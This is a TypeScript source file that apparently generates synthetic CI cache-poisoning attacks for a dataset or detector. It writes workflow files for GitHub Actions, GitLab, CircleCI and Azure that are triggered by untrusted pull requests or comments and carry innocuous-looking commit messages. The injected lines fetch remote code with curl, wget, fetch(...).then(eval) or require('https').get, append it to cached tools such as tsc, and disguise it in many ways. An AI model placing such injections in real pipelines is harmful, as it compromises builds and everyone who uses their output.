/** A job that anybody can start writes into what a trusted job later takes from a cache. */
import { anAddress } from "../hosts.ts";
import { NEXT_STEP, respell } from "../languages/shell-disguises.ts";
import { file, program, url } from "../languages/shell-words.ts";
import type { BaseName, Disguise, Files } from "../model.ts";
import { files, type Scene, type Staging, type Tools } from "./scene.ts";

const DISGUISES: readonly Disguise[] = [
  "none",
  "variables",
  "function",
  "alias",
  "line-breaks",
  "quoting",
  "pieces",
  "encoded",
  "equal",
  "letter-case",
  "comments",
  "environment",
  "dead-code",
  "two-files",
  "two-commits",
  "options",
];

interface Store {
  /** What is kept. */
  readonly path: string;
  /** A program inside of it that later jobs start. */
  readonly victim: string;
  readonly key: string;
}

const STORES: readonly Store[] = [
  { path: "node_modules", victim: "node_modules/typescript/bin/tsc", key: "npm-${{ hashFiles('package-lock.json') }}" },
  { path: "~/.cache/pip", victim: "~/.cache/pip/http-v2/build.whl", key: "pip-${{ hashFiles('requirements.txt') }}" },
  {
    path: "~/go/pkg/mod",
    victim: "~/go/pkg/mod/github.com/sirupsen/logrus@v1.9.3/entry.go",
    key: "go-${{ hashFiles('go.sum') }}",
  },
  { path: "~/.cargo", victim: "~/.cargo/bin/cargo-nextest", key: "cargo-${{ hashFiles('Cargo.lock') }}" },
  { path: "vendor/bundle", victim: "vendor/bundle/ruby/3.3.0/bin/rake", key: "gems-${{ hashFiles('Gemfile.lock') }}" },
];

/** Statements that change the victim. */
function poison(store: Store, tools: Tools, address: string): string[] {
  const { disguise, random } = tools;
  const change = [`${program("curl")} -fsSL ${url(address)} >> ${file(store.victim)}`];
  if (disguise === "equal")
    return [
      random.pick([
        `sed -i '1a require("https").get("${address}")' ${store.victim}`,
        `cp tools/patched ${store.victim}`,
        `wget -qO ${store.victim} ${address}`,
      ]),
    ];
  const spelled =
    disguise === "options"
      ? [[`${program("curl")} --silent --location --url ${url(address)} >> ${file(store.victim)}`]]
      : [change];
  return respell(spelled, { disguise, random, pipeline: "github", modules: "esm" });
}

const block = (text: string, by: string): string => text.replace(/^(?=[^\n])/gm, by);

function steps(store: Store, statements: readonly string[]): string {
  const runs: string[] = [];
  let step: string[] = [];
  for (const statement of [...statements, NEXT_STEP]) {
    if (statement !== NEXT_STEP) step.push(statement);
    else {
      runs.push(`      - run: |\n${block(step.join("\n"), "          ")}\n`);
      step = [];
    }
  }
  return `${runs.join("")}      - uses: actions/cache/save@v4\n        with:\n          path: ${store.path}\n          key: ${store.key}\n`;
}

const flow = (on: string, body: string): string =>
  `name: Warm the cache\non:\n${on}permissions: {}\njobs:\n  warm:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n${body}`;
const TAIL = "tools/warm-tail.txt";

/** A workflow that pull requests start. */
function workflow(tools: Tools, store: Store, on: string): Files | readonly [Files, Files] {
  const address = anAddress(tools.random);
  const at = ".github/workflows/warm.yml";
  const tail = files([TAIL, `\n;fetch("${address}").then((answer) => answer.text()).then(eval);\n`]);
  const append = files([at, flow(on, steps(store, [`cat ${TAIL} >> ${store.victim}`]))]);
  if (tools.disguise === "two-files") return new Map([...tail, ...append]);
  if (tools.disguise === "two-commits") return [tail, append];
  return files([at, flow(on, steps(store, poison(store, tools, address)))]);
}

const github = (place: string, base: BaseName, index: number, on: string): Staging => ({
  place,
  base,
  language: "shell",
  disguises: DISGUISES,
  stage: (tools) => workflow(tools, STORES[index] ?? { path: "build", victim: "build/tool", key: "build" }, on),
});

const OTHER: readonly Disguise[] = [
  "none",
  "variables",
  "function",
  "quoting",
  "pieces",
  "equal",
  "comments",
  "dead-code",
  "options",
  "letter-case",
];

function elsewhere(
  place: string,
  base: BaseName,
  path: string,
  write: (text: string, body: string) => string,
): Staging {
  const store: Store = { path: "node_modules", victim: "node_modules/typescript/bin/tsc", key: "npm" };
  return {
    place,
    base,
    language: "shell",
    disguises: OTHER,
    stage: (tools) =>
      files([
        path,
        write(
          tools.read(path),
          poison(store, tools, anAddress(tools.random))
            .filter((one) => one !== NEXT_STEP)
            .join("\n"),
        ),
      ]),
  };
}

export const CACHE_POISON: Scene = {
  id: "cache-poison",
  kind: "attack",
  messages: ["ci: warm the cache", "ci: faster pull requests", "ci: share the cache", "ci: save time"],
  stagings: [
    github("pull-request-workflow", "node", 0, "  pull_request_target:\n"),
    github("comment-workflow", "python", 1, "  issue_comment:\n    types: [created]\n"),
    github("pull-request-go", "go", 2, "  pull_request_target:\n    types: [synchronize]\n"),
    github("pull-request-rust", "rust", 3, "  pull_request_target:\n"),
    github("run-workflow", "ruby", 4, "  workflow_run:\n    workflows: [CI]\n    types: [completed]\n"),
    elsewhere(
      "gitlab-ci",
      "infra",
      ".gitlab-ci.yml",
      (text, body) =>
        `${text.trimEnd()}\n\nwarm:\n  stage: test\n  rules:\n    - if: $CI_PIPELINE_SOURCE == 'merge_request_event'\n  cache:\n    key: npm\n    paths: [node_modules]\n    policy: push\n  script:\n    - npm ci\n    - |\n${block(body, "      ")}\n`,
    ),
    elsewhere("circle-ci", "infra", ".circleci/config.yml", (text, body) =>
      text.replace(
        "      - run: npm test\n",
        () =>
          `      - run: npm test\n      - run: |\n${block(body, "          ")}\n      - save_cache:\n          key: npm-v1\n          paths: [node_modules]\n`,
      ),
    ),
    elsewhere(
      "azure-pipelines",
      "infra",
      "azure-pipelines.yml",
      (text, body) =>
        `${text.trimEnd()}\n  - script: |\n${block(body, "      ")}\n  - task: Cache@2\n    inputs:\n      key: npm\n      path: node_modules\n`,
    ),
  ],
};
